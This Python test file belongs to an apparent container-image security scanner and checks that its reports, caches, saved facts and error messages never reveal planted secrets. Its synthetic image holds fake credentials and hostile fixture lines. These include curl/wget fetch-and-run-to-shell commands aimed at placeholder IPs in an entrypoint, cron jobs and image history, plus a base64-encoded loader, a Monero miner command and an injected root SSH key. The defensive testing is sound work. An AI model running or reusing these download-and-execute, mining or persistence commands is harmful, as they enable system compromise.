"""No output shows the value of a secret: not where it is reported, and not where something else quotes the same line.
Nor is one kept: not in saved facts, not in the cache."""
import base64
import contextlib
import pathlib
import sqlite3

import support
from support import hullcheck

# Put together here, so that no file of these sources holds one.
VALUES = {name: "Zq7" + tail for name, tail in {
    "variable": "kT4-uWv9x", "address": "mB2nR8sL", "history": "pL5-cD3fG", "argument": "hJ6kM1wE", "label": "vN8bX4rY",
    "user": "aS3dF7gH", "fetch": "yU2iO5pA", "header": "eR9tY3uI0oP6", "pool": "wX1cV8bN", "cron": "qA4zW7sX",
    "command": "gT6yH2nJ", "bearer": "xB4nM7kLq2", "proxy": "sD5fG8hJ", "encoded": "lK9jH3gF", "spoken": "oP1iU4yT",
    "health": "rE6wQ2aZ", "build": "zX3cV9bN", "unit": "mJ7nH4bG", "here": "cF5vR8tB", "typed": "yN2mU6kI",
    "digits": "wS4xE7dC", "hook": "bG9hT5nY", "mirror": "kR3jP8mD", "hash": "$rounds.Ab3Cd5Ef7Gh9"}.items()}
VALUES |= {"phrase": "correct Zq7 battery", "cloud": "Zq7" + "kD8sV2pQ4xW6zN1bM3cR5tY7uJ9hL0aE2gF4i",
           "token": "ghp_Zq7" + "aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1",
           "key": "Zq7" + "MIIEowIBAAKCAQEA1c7eT3rWq0vHc5sJ8dXk2mPz"}
SCRIPT = f"""#!/bin/sh
curl -s -u admin:{VALUES['user']} http://198.51.100.7/x.sh | sh
wget https://u:{VALUES['fetch']}@203.0.113.9/a -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a
wget -q --header 'Authorization: Bearer {VALUES['header']}' -O- http://198.51.100.8/q | bash
/usr/bin/worker -o stratum+tcp://pool.example.com:3333 -u name --coin monero -p {VALUES['pool']}
"""
SCRIPT += f"""mkdir -p /root/.ssh && cat > /root/.ssh/id_rsa <<END
-----BEGIN RSA PRIVATE KEY-----
{VALUES['key']}
-----END RSA PRIVATE KEY-----
END
echo 'password: {VALUES['here']}' > /etc/app.conf
export DEPLOY_PASSWORD={VALUES['typed']} && /usr/bin/deploy --token {VALUES['digits']}
"""
PYTHON = f"import os\nos.system('curl -s -u me:{VALUES['spoken']} http://198.51.100.7/p.sh | sh')\n"
ENCODED = base64.b64encode(f"curl -u me:{VALUES['encoded']} http://198.51.100.7/e | sh\n".encode()).decode()
CONFIG = {
    "Env": ["PATH=/usr/bin", f"DB_PASSWORD={VALUES['variable']}", f"ROOT_PASSWORD={VALUES['phrase']}",
            f"DATABASE_URL=postgres://app:{VALUES['address']}@db.example.com/x", f"GITHUB={VALUES['token']}",
            f"HTTPS_PROXY=http://me:{VALUES['proxy']}@proxy.example.com:3128", "AWS_ACCESS_KEY_ID=AKIA" + "Q3EGRIA7XKZ5W2MN",
            f"AWS_SECRET_ACCESS_KEY={VALUES['cloud']}", f"START=echo {ENCODED} | base64 -d | sh"],
    "Healthcheck": {"Test": ["CMD-SHELL", f"curl -f -u check:{VALUES['health']} http://127.0.0.1/ || exit 1"]},
    "OnBuild": [f"RUN deploy --password={VALUES['hook']}"],
    "Labels": {"deploy.password": VALUES["label"]}, "Entrypoint": ["/entry.sh"],
    "Cmd": ["sh", "-c", f"curl --token={VALUES['command']} http://198.51.100.9/z | sh"]}
HISTORY = [{"created_by": f"/bin/sh -c #(nop)  ENV ADMIN_PASSWORD={VALUES['history']}", "empty_layer": True},
           {"created_by": f"RUN /bin/sh -c mysql --password={VALUES['argument']} -e x"},
           {"created_by": f"|1 REGISTRY_PASSWORD={VALUES['build']} /bin/sh -c curl -H \"Authorization: Bearer "
                          f"{VALUES['bearer']}\" http://198.51.100.7/b | sh", "empty_layer": True}]
# Spelt another way they are as good.
SPELT = {"start": ENCODED}


def shown(text):
    return [name for name, value in (VALUES | SPELT).items() if value in text]


def image():
    files = {"entry.sh": (SCRIPT, 0o755),
             "etc/cron.d/x": f"* * * * * root curl -u c:{VALUES['cron']} http://198.51.100.7/c | sh\n",
             "etc/systemd/system/x.service": f"[Service]\nExecStart=/usr/bin/x --password={VALUES['unit']}\n",
             "srv/jobs.txt": f"*/5 * * * * root curl -u j:{VALUES['cron']} http://198.51.100.7/j | sh\n",
             "etc/os-release": "ID=alpine\nVERSION_ID=3.19.1\n", "etc/shadow": f"root:$6${VALUES['hash']}:19000:0:::::\n",
             "etc/apk/repositories": f"https://me:{VALUES['mirror']}@packages.example.org/x\n",
             "opt/start.py": PYTHON, "root/.bash_history": f"curl -s http://192.0.2.9/\nmysql -u root -p{VALUES['user']}\n"}
    return support.docker_archive(support.scratch() / "secrets.tar", [support.layer(files)], CONFIG, history=HISTORY)


def no_format_shows_a_value():
    for form in ("terminal", "json", "sarif", "spdx", "cyclonedx", "openvex"):
        found = hullcheck("image", image(), "--offline", "--format", form, "--show-suppressed")
        assert found.out, found
        assert not shown(found.out + found.err), (form, shown(found.out + found.err))


def no_explanation_shows_a_value():
    cache = support.scratch() / "explained"
    report = hullcheck("image", image(), "--offline", "--format", "json", cache=cache).json
    findings = [one for kind in ("threats", "secrets", "checks", "warnings") for one in report[kind]]
    assert {"D01", "M06", "secret-env"} <= {one["rule"] for one in findings}, [one["rule"] for one in findings]
    for one in findings:
        said = hullcheck("explain", one["id"], cache=cache)
        assert said.code == 0 and not shown(said.out), (one["rule"], shown(said.out))


def kept(folder):
    """Every file below the folder as text, and what stands in databases as it was put there."""
    for path in sorted(pathlib.Path(folder).rglob("*")):
        if not path.is_file():
            continue
        yield path.name, path.read_bytes().decode("latin-1")
        if path.suffix == ".db":
            with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as database:
                for (table,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                    for row in database.execute(f"SELECT * FROM {table}"):
                        for cell in row:
                            yield f"{path.name}: {table}", cell.decode("latin-1") if isinstance(cell, bytes) else str(cell)


def nothing_that_is_kept_holds_a_value():
    folder = support.scratch() / "kept"
    facts = folder / "facts"
    folder.mkdir()
    scanned = hullcheck("image", image(), "--offline", "--format", "json", "--save-facts", facts,
                        "--output", folder / "report.json", "--cache-dir", folder / "cache", cache=folder / "home")
    assert scanned.code == support.UNSAFE, scanned
    places = list(kept(folder))
    assert {"facts", "facts.db", "report.json", "facts.db: part"} <= {name for name, text in places}, {name for name, text in places}
    for name, text in places:
        assert not shown(text), (name, shown(text))
    assert any("198.51.100.7" in text for name, text in places if name == "facts.db: part"), "the commands are kept"
    assert facts.stat().st_mode & 0o077 == 0, oct(facts.stat().st_mode)


def judged_again_the_report_is_the_same():
    facts, cache = support.scratch() / "facts", support.scratch() / "warm"
    asked = ("image", image(), "--offline", "--format", "json", "--deterministic")
    scanned = hullcheck(*asked, "--save-facts", facts, cache=cache)
    rules = {one["rule"] for kind in ("threats", "secrets", "checks", "warnings") for one in scanned.json[kind]}
    assert {"D01", "secret/config-value", "secret/aws-access-key", "secret-env"} <= rules, rules
    judged = hullcheck("judge", facts, "--format", "json", "--deterministic")
    assert scanned.out == judged.out
    warm = hullcheck(*asked, "--save-facts", support.scratch() / "facts again", cache=cache)
    assert warm.out == scanned.out
    assert (support.scratch() / "facts again").read_bytes() == facts.read_bytes()


def facts_of_an_earlier_release_are_refused_by_name():
    facts = support.scratch() / "old facts"
    facts.write_bytes(b"HCFACTS\x01\x00\x00\x00")
    judged = hullcheck("judge", facts)
    assert judged.code == support.FAILED and "another release" in judged.err and "scan the image again" in judged.err, judged


def no_error_shows_a_password_of_an_address():
    login = f"me:{VALUES['fetch']}@localhost:1"
    database = support.scratch() / "none.db"
    for arguments, environment in (
            (("image", f"registry:https://{login}/a/b:1", "--insecure"), {}),
            (("image", "docker:app"), {"DOCKER_HOST": f"tcp://{login}"}),
            (("image", "docker:app"), {"DOCKER_HOST": f"https://{login}"}),
            (("image", "registry:registry.example.com/a:1"), {"https_proxy": f"http://{login}"}),
            (("image", "registry:registry.example.com/a:1"), {"https_proxy": f"odd://{login}"}),
            (("db", "update", "--db", database, "--mirror", f"odd://{login}/feeds"), {}),
            (("db", "update", "--db", database, "--feeds", "kev", "--mirror", f"http://{login}/feeds"), {})):
        found = hullcheck(*arguments, env=environment)
        assert found.code == 3 and found.out + found.err and not shown(found.out + found.err), (arguments, environment, found)


if __name__ == "__main__":
    support.run(no_format_shows_a_value, no_explanation_shows_a_value, nothing_that_is_kept_holds_a_value,
                judged_again_the_report_is_the_same, facts_of_an_earlier_release_are_refused_by_name,
                no_error_shows_a_password_of_an_address)
